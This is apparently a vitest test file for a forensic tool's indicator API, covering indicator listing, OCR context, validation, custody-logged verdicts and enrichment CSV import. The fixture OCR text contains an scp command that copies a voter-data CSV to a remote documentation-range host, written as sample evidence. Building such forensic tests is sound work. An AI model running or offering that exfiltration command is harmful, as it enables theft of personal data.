/**
 * The indicator methods through LocardService.dispatch, as both shells call them: validation,
 * listing and detail with context, verdicts and enrichment imports logged in custody, and the
 * indicatorsChanged event the Indicators view refreshes on.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { EventName, LocardEvents } from '../../shared/api.js';
import type { CustodyEntry } from '../../shared/domain.js';
import type { ImportProgress } from '../../shared/evidence.js';
import type { IndicatorDetail, IndicatorSummary } from '../../shared/indicator-types.js';
import type { Result } from '../../shared/result.js';
import { ConfigStore } from '../../main/config/settings.js';
import { LocardService } from '../../main/core/service.js';
import type { IntakeParsers } from '../../main/intake/import.js';
import { recordOccurrences } from '../../main/locker/indicators.js';
import { insertOcrResult } from '../../main/locker/ocr.js';
import { ROOT, tempDir } from '../helpers/cli.js';

const NOTES = [
  'Thu 22 Oct 2020 Worldstream (AS 64500) called back: the box at 203.0.113[.]77 went into service on 6 Oct.',
  'The operator copied fl_voters_2020.csv to 203.0.113.77 under /srv/drop/ and mailed info[at]officialproudboys-mail[.]example.',
].join('\n');

const textParsers: IntakeParsers = {
  detect: () => Promise.resolve({ kind: 'text', mime: 'text/plain', extensionMismatch: false }),
  parse: () =>
    Promise.resolve({
      kind: 'text',
      text: NOTES,
      segments: [{ start: 0, end: NOTES.length, kind: 'body', label: 'text' }],
      metadata: {},
      warnings: [],
      children: [],
    }),
};

// The value's type is the caller's claim about the method it called.
// eslint-disable-next-line @typescript-eslint/no-unnecessary-type-parameters
function unwrap<T>(result: Result<unknown>): T {
  if (!result.ok) throw new Error(JSON.stringify(result.error));
  return result.value as T;
}

async function importedCase() {
  const events: { event: EventName; payload: unknown }[] = [];
  let done: (p: ImportProgress) => void = () => undefined;
  const svc = new LocardService(
    {
      shell: 'browser',
      nativeDialogs: false,
      emit: <E extends EventName>(event: E, payload: LocardEvents[E]) => {
        events.push({ event, payload });
        if (event === 'importProgress' && (payload as ImportProgress).done) done(payload as ImportProgress);
      },
    },
    new ConfigStore(tempDir()),
    textParsers,
  );
  await svc.dispatch('createCase', { path: join(tempDir(), 'api'), passphrase: 'api passphrase', title: 'API' });
  const dir = tempDir();
  writeFileSync(join(dir, 'analyst-notes.txt'), NOTES);
  const finished = new Promise<ImportProgress>((resolve) => (done = resolve));
  unwrap(await svc.dispatch('importEvidence', { paths: [dir] }));
  await finished;
  return { svc, events };
}

describe('indicators through the API', () => {
  it('lists and details what an import found, with context, and announces it', async () => {
    const { svc, events } = await importedCase();
    expect(events.some((e) => e.event === 'indicatorsChanged')).toBe(true);
    const list = unwrap<IndicatorSummary[]>(await svc.dispatch('listIndicators', {}));
    const ip = list.find((s) => s.value === '203.0.113.77');
    expect(ip).toMatchObject({ type: 'ipv4', occurrenceCount: 2, exhibitCount: 1, status: 'open' });
    expect(
      unwrap<IndicatorSummary[]>(await svc.dispatch('listIndicators', { types: ['asn'] })).map((s) => s.value),
    ).toEqual(['AS64500']);
    const detail = unwrap<IndicatorDetail>(await svc.dispatch('getIndicator', { id: ip?.id }));
    expect(detail.occurrences.map((o) => [o.exhibitLabel, o.exhibitName, o.surface, o.location.kind])).toEqual([
      ['E-0001', 'analyst-notes.txt', '203.0.113[.]77', 'body'],
      ['E-0001', 'analyst-notes.txt', '203.0.113.77', 'body'],
    ]);
    const context = detail.occurrences[0]?.context ?? '';
    expect(context).toContain('the box at 203.0.113[.]77 went into service');
    expect(context.length).toBeLessThanOrEqual('203.0.113[.]77'.length + 160);
    expect(context).not.toContain('\n');
    const missing = await svc.dispatch('getIndicator', { id: 99_999 });
    expect(missing).toMatchObject({ ok: false, error: { code: 'not-found' } });
  });

  it('gives OCR occurrences their frame, box and context from the text read off that picture', async () => {
    const { svc } = await importedCase();
    const { db } = svc.session.current();
    const frameText = 'PS C:\\Users\\operator> scp fl_voters_2020.csv operator@198.51.100.9:/srv/drop/';
    const surface = '198.51.100.9';
    const start = frameText.indexOf(surface);
    db.transaction(() => {
      insertOcrResult(db, {
        exhibitId: 1,
        frameTimeS: 10.3,
        width: 1600,
        height: 900,
        text: frameText,
        words: [],
        confidence: 91,
      });
      recordOccurrences(
        db,
        1,
        [
          {
            extraction: {
              type: 'ipv4',
              value: surface,
              surface,
              start,
              end: start + surface.length,
              flags: ['documentation'],
            },
            location: {
              start,
              end: start + surface.length,
              kind: 'ocr',
              label: '00:10.300',
              frameTimeS: 10.3,
              box: { x: 410, y: 220, width: 130, height: 18 },
            },
          },
        ],
        Date.now(),
      );
    });
    const list = unwrap<IndicatorSummary[]>(await svc.dispatch('listIndicators', { types: ['ipv4'] }));
    const id = list.find((s) => s.value === surface)?.id;
    const detail = unwrap<IndicatorDetail>(await svc.dispatch('getIndicator', { id }));
    expect(detail.occurrences[0]).toMatchObject({
      location: { kind: 'ocr', label: '00:10.300', frameTimeS: 10.3, box: { x: 410, y: 220, width: 130, height: 18 } },
      context: frameText,
    });
  });

  it('validates every argument before a handler runs', async () => {
    const { svc } = await importedCase();
    const cases: [string, unknown, RegExp][] = [
      ['updateIndicators', { ids: [], status: 'benign' }, /choose at least one indicator/],
      ['updateIndicators', { ids: [1], status: 'harmless' }, /status/],
      ['updateIndicators', { ids: [1], addTags: [''] }, /addTags/],
      ['updateIndicators', { ids: [1], colour: 'red' }, /colour|Unrecognized/i],
      ['listIndicators', { types: ['ipv5'] }, /types/],
      ['getIndicator', { id: -1 }, /id/],
      ['importEnrichmentCsv', { path: 'a\0b' }, /NUL/],
    ];
    for (const [method, input, message] of cases) {
      const result = await svc.dispatch(method, input);
      expect(result, `${method} ${JSON.stringify(input)}`).toMatchObject({
        ok: false,
        error: { code: 'invalid-argument' },
      });
      expect(result.ok ? '' : result.error.message).toMatch(message);
    }
    const unknown = await svc.dispatch('updateIndicators', { ids: [424_242], status: 'benign' });
    expect(unknown).toMatchObject({ ok: false, error: { code: 'not-found' } });
  });

  it('records verdicts, tags and notes in bulk, once in custody, and announces them', async () => {
    const { svc, events } = await importedCase();
    const list = unwrap<IndicatorSummary[]>(await svc.dispatch('listIndicators', {}));
    const ids = list.filter((s) => s.type === 'domain' || s.type === 'email').map((s) => s.id);
    const before = events.length;
    const updated = unwrap<IndicatorSummary[]>(
      await svc.dispatch('updateIndicators', {
        ids,
        status: 'false_positive',
        addTags: ['spoofed sender', 'spoofed sender'],
      }),
    );
    expect(updated.every((s) => s.status === 'false_positive' && s.tags.join() === 'spoofed sender')).toBe(true);
    expect(events.slice(before).some((e) => e.event === 'indicatorsChanged')).toBe(true);
    const open = unwrap<IndicatorSummary[]>(await svc.dispatch('listIndicators', { includeDismissed: false }));
    expect(open.some((s) => ids.includes(s.id))).toBe(false);
    const again = unwrap<IndicatorSummary[]>(await svc.dispatch('updateIndicators', { ids, status: 'false_positive' }));
    expect(again).toHaveLength(ids.length);
    const custody = unwrap<{ entries: CustodyEntry[] }>(await svc.dispatch('listCustody', {}));
    const logged = custody.entries.filter((e) => e.action === 'indicator.updated');
    // The second call changed nothing and logged nothing.
    expect(logged).toHaveLength(1);
    expect(logged[0]?.objectIds).toContain('domain:officialproudboys-mail.example');
    expect(logged[0]?.details).toMatchObject({ indicators: ids.length, addTags: ['spoofed sender'] });
    const edited = unwrap<IndicatorSummary[]>(
      await svc.dispatch('updateIndicators', {
        ids: [ids[0]],
        notes: 'Sender domain is spoofed.',
        removeTags: ['spoofed sender'],
      }),
    );
    expect(edited).toHaveLength(1);
    const noted = unwrap<IndicatorDetail>(await svc.dispatch('getIndicator', { id: ids[0] }));
    expect(noted).toMatchObject({ notes: 'Sender domain is spoofed.', tags: [] });
    expect(unwrap<{ ok: boolean }>(await svc.dispatch('verifyCustody', {})).ok).toBe(true);
  });

  it('imports an enrichment CSV, refusing bad lines by number, and re-enriches the case', async () => {
    const { svc, events } = await importedCase();
    const dir = tempDir();
    const bad = join(dir, 'ranges.csv');
    writeFileSync(
      bad,
      'prefix,asn,organisation,country\n203.0.113.0/24,AS64500,Worldstream,NL\n203.0.113.0/40,AS1,x,NL\n',
    );
    const refused = await svc.dispatch('importEnrichmentCsv', { path: bad });
    expect(refused).toMatchObject({ ok: false, error: { code: 'invalid-argument' } });
    expect(refused.ok ? '' : refused.error.message).toBe(
      'ranges.csv was not imported: line 3: "203.0.113.0/40": the prefix length must be 0 to 32.',
    );
    const absent = await svc.dispatch('importEnrichmentCsv', { path: join(dir, 'absent.csv') });
    expect(absent).toMatchObject({ ok: false, error: { code: 'not-found' } });
    const before = events.length;
    const fixture = join(ROOT, 'test', 'fixtures', 'enrichment', 'documentation-ranges.csv');
    expect(unwrap(await svc.dispatch('importEnrichmentCsv', { path: fixture }))).toEqual({ ranges: 1 });
    expect(events.slice(before).map((e) => e.event)).toContain('indicatorsChanged');
    const list = unwrap<IndicatorSummary[]>(await svc.dispatch('listIndicators', { types: ['ipv4', 'asn'] }));
    expect(
      list.map((s) => [s.value, s.enrichment.map((f) => `${f.kind}=${f.value}${f.label ? ` ${f.label}` : ''}`)]),
    ).toEqual([
      ['AS64500', ['organisation=Worldstream', 'country=NL']],
      ['203.0.113.77', ['asn=AS64500 Worldstream', 'country=NL']],
    ]);
    const custody = unwrap<{ entries: CustodyEntry[] }>(await svc.dispatch('listCustody', { limit: 1 }));
    expect(custody.entries[0]).toMatchObject({
      action: 'enrichment.imported',
      details: { ranges: 1, reenrichedIndicators: 2 },
    });
  });
});
